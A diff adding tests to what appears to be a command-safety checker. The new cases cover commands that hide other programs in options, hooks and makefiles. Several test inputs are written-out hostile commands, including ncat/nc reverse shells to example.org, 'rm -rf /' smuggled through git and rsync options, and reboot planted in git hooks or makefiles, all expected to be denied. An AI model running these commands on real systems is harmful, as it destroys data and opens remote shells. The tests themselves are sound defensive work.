@@ -249,3 +249,38 @@ def test_arrays_and_special_variables_are_followed(command: str, expected: Decis
 def test_xargs_splits_as_it_is_told(command: str, expected: Decision) -> None:
     """Whole lines with -I, at what -0 and -d name, one by one with -n1."""
     assert judge(command).decision is expected
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("ncat -c 'bash -i' example.org 99", DENY),
+        ("ncat --sh-exec '/bin/bash -i' example.org 99", DENY),
+        ("nc.traditional -e /bin/sh example.org 99", DENY),
+        ("git filter-branch --tree-filter 'rm -rf /' HEAD", DENY),
+        ("git submodule foreach --recursive rm -rf /", DENY),
+        ("git config --global core.pager 'rm -rf /'", DENY),
+        ("echo reboot > .git/hooks/pre-commit", DENY),
+        ("make -f <(printf 'all:\\n\\treboot\\n')", DENY),
+        ("printf 'all:\\n\\treboot\\n' > Makefile; make", DENY),
+        ("printf 'all:\\n\\treboot\\n' > x.mk; make --file=x.mk all", DENY),
+        ("rsync --rsync-path='rm -rf / && rsync' a h:", DENY),
+        ("rpm --pipe 'sh -c reboot' -qa", DENY),
+        ("jobs -x reboot", DENY),
+        ("patch /etc/pam.d/sshd < x.diff", DENY),
+        ("chmod -x /bin/chmod", ASK),
+        ("chmod 000 /usr/bin/passwd", ASK),
+        ("git filter-branch --tree-filter 'rm -f passwords.txt' HEAD", ALLOW),
+        ("git submodule foreach 'git pull'", ALLOW),
+        ("git config --global core.editor 'code --wait'", ALLOW),
+        ("printf '#!/bin/sh\\nmake test\\n' > .git/hooks/pre-commit", ALLOW),
+        ("printf 'all:\\n\\techo hi\\n' > Makefile; make", ALLOW),
+        ("rsync --rsync-path='sudo rsync' -a x h:y", ALLOW),
+        ("chmod o-w /usr/bin/x; chmod +x /usr/local/bin/x", ALLOW),
+        ("patch -p1 < fix.diff", ALLOW),
+        ("echo hi | nc -N localhost 9000", ALLOW),
+    ],
+)
+def test_programs_in_options_and_files_are_followed(command: str, expected: Decision) -> None:
+    """What an option, a hook or a makefile of the same line would run is judged."""
+    assert judge(command).decision is expected
